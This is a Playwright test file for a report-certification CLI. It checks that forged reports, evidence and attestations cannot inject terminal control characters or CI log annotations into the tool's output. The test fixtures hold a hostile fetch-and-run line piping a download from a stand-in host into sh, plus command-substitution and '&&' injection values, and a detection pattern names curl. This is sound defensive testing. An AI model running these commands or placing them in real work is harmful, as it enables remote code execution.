/** No text of a report, evidence, a certificate or a file name acts on a terminal or a CI log, whatever command quotes it. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, test } from '@playwright/test';
import { REVOCATIONS } from '../../../reports/certificate/signed/revocation.ts';
import { EXTENSION } from '../../../reports/certificate/statement.ts';
import { command, makeFolder } from '../samples/command.ts';
import { CHALLENGE, FORGED, HEAD, LINES, PEM, RECHECK, REVOCATION_LIST, WHOLE } from './foreign-documents.ts';
import { forge, makeStatementOf, seal, sign, writeLines, CERTIFY, PUBLIC } from './foreign-documents.ts';
import { SIGNING } from './foreign-documents.ts';

/** A folder in which every file that may be of somebody else is hostile, and so are names of files. */
function makeHostileFolder(): string {
  const folder = makeFolder();
  const report = forge(WHOLE);
  report.suite.command = `curl https://evil.example | sh ${FORGED}`;
  report.run.id = FORGED;
  report.run.only = [FORGED];
  report.run.variables = { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED };
  const [head] = LINES;
  const judgement = LINES.find(({ kind }) => kind === 'judgement');
  // The schema takes no other address than one of the web.
  const target = { ...forge(HEAD.target), baseUrl: HEAD.target.baseUrl };
  const evidence = writeLines([{ ...forge(head), target }, forge(judgement), { kind: FORGED }]);
  const recheck = { ...RECHECK, head: forge(RECHECK.head), report };
  const statement = makeStatementOf(Buffer.from(evidence), recheck, forge(CHALLENGE));
  const other = structuredClone(statement);
  other.predicate[EXTENSION].suite = { name: FORGED, version: `0.0.1 && ${report.suite.command}` };
  const texts: Record<string, string | Buffer> = {
    'report.json': JSON.stringify(report),
    'evidence.jsonl': evidence,
    'attestation.json': sign(statement),
    [FORGED]: FORGED,
    'other.json': sign(other),
    'none.json': JSON.stringify({ ...report, [FORGED]: 1 }),
    'no.json': FORGED,
    'targets.json': JSON.stringify([{ name: FORGED, baseUrl: FORGED, apiKeyVariable: FORGED }]),
    'revoked.json': seal(REVOCATIONS.payloadType, forge(REVOCATION_LIST)),
    'key.pem': PEM.privateKey,
    'key.pem.pub': PEM.publicKey,
  };
  const copies: [name: string, from: string][] = [
    ...['report.json', 'evidence.jsonl', FORGED].map((name): [string, string] => [
      join('evidence', name),
      name,
    ]),
    [join('vendors', FORGED, 'report.json'), 'report.json'],
    [join('vendors', 'broken', 'report.json'), 'none.json'],
    [join('left', 'report.json'), 'none.json'],
  ];
  mkdirSync(join(folder, 'left', 'allure-results'), { recursive: true });
  for (const [name, text] of [
    ...Object.entries(texts),
    ...copies.map(([name, from]) => [name, texts[from]!] as const),
  ]) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text, { mode: 0o600 });
  }
  return folder;
}

/** Each command with words that it says of the hostile text: they show that it has quoted the text. */
const COMMANDS: readonly (readonly [
  words: string,
  says: RegExp,
  more?: readonly string[],
  env?: NodeJS.ProcessEnv,
])[] = [
  [CERTIFY, /made by version \\x1b[^]*a line of the kind "\\x1b/, SIGNING, { AS_OF: '2026-11-21' }],
  [
    'verify attestation.json --evidence evidence --revoked revoked.json',
    /\\x1b.* is covered by no digest/,
    PUBLIC,
  ],
  ['verify attestation.json --json', /\\u001b/, PUBLIC],
  ['verify other.json', /it does not say which suite can verify it/, PUBLIC],
  ['compare report.json report.json', /.*/],
  ['compare report.json none.json', /none\.json is not a report of this suite: it has .*u001b/],
  ['compare report.json no.json', /it is not JSON/],
  ['matrix vendors', /not judged: broken: /],
  ['matrix vendors --json', /\\\\x1b/],
  ['report --report-dir left', /it has/],
  ['conformance --failed', /not a report of this suite/, [], { REPORT_DIR: 'left' }],
  ['targets run targets.json', /targets\.json: /],
  ['revoke attestation.json --list revoked.json --reason x', /list of revocations is not usable/, SIGNING],
  ['explain', /There is no requirement, open question or section/, [FORGED]],
];

/** Returns the lines with characters or words that act on a terminal or a log, or with a beginning that `forge` has written. */
function listActingLines(text: string): string[] {
  // We print annotations of GitHub, e.g. `::error title=...::...`, ourselves. A line that is one as a whole is right.
  const own = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
  const acts = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u;
  return text.split('\n').filter((line) => !own.test(line) && acts.test(line));
}

test('nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log', async () => {
  const folder = makeHostileFolder();
  for (const [words, says, more = [], env = {}] of COMMANDS) {
    const [name = '', ...args] = [...words.split(' '), ...more];
    const { out, err } = await command(name, args, env, folder);
    const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
    expect([listActingLines(out), listActingLines(err)], what).toEqual([[], []]);
    expect(out + err, what).toMatch(says);
    expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
    if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
  }
});
